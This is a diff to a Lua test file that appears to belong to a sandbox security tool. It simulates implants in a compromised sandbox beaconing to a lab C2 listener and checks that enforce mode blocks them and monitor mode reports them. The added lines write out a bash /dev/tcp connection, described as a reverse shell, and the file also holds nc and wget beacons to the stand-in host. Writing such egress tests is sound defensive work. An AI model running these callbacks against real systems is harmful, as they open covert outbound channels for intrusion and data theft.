@@ -1,13 +1,15 @@
 -- c2-connect: a compromised sandbox calls home. A C2 listener waits on
 -- 198.18.66.1:4444 (a lab address, RFC 2544) and counts what reaches it; the
--- implant tries a raw TCP beacon with busybox nc and an HTTP beacon with
--- busybox wget (the busybox shell has no /dev/tcp). In enforce mode the C2
--- must see zero connections and each implant must be stopped; in monitor
--- mode the beacons arrive and are reported.
+-- implant tries a bash /dev/tcp reverse shell, a raw TCP beacon with busybox
+-- nc and an HTTP beacon with busybox wget. In enforce mode the C2 must see
+-- zero connections and each implant must be stopped; in monitor mode the
+-- beacons arrive and are reported.
 
 local C2, PORT = "198.18.66.1", 4444
 
 local implants = {
+  { name = "bash /dev/tcp", argv = { "bash", "-c",
+      "exec 3<>/dev/tcp/" .. C2 .. "/" .. PORT .. "; echo beacon-bash >&3" } },
   { name = "nc", argv = { "nc", C2, tostring(PORT), stdin = "beacon-nc\n" } },
   { name = "wget", argv = { "wget", "-q", "-O", "-", "http://" .. C2 .. ":" .. PORT .. "/beacon-wget" } },
 }
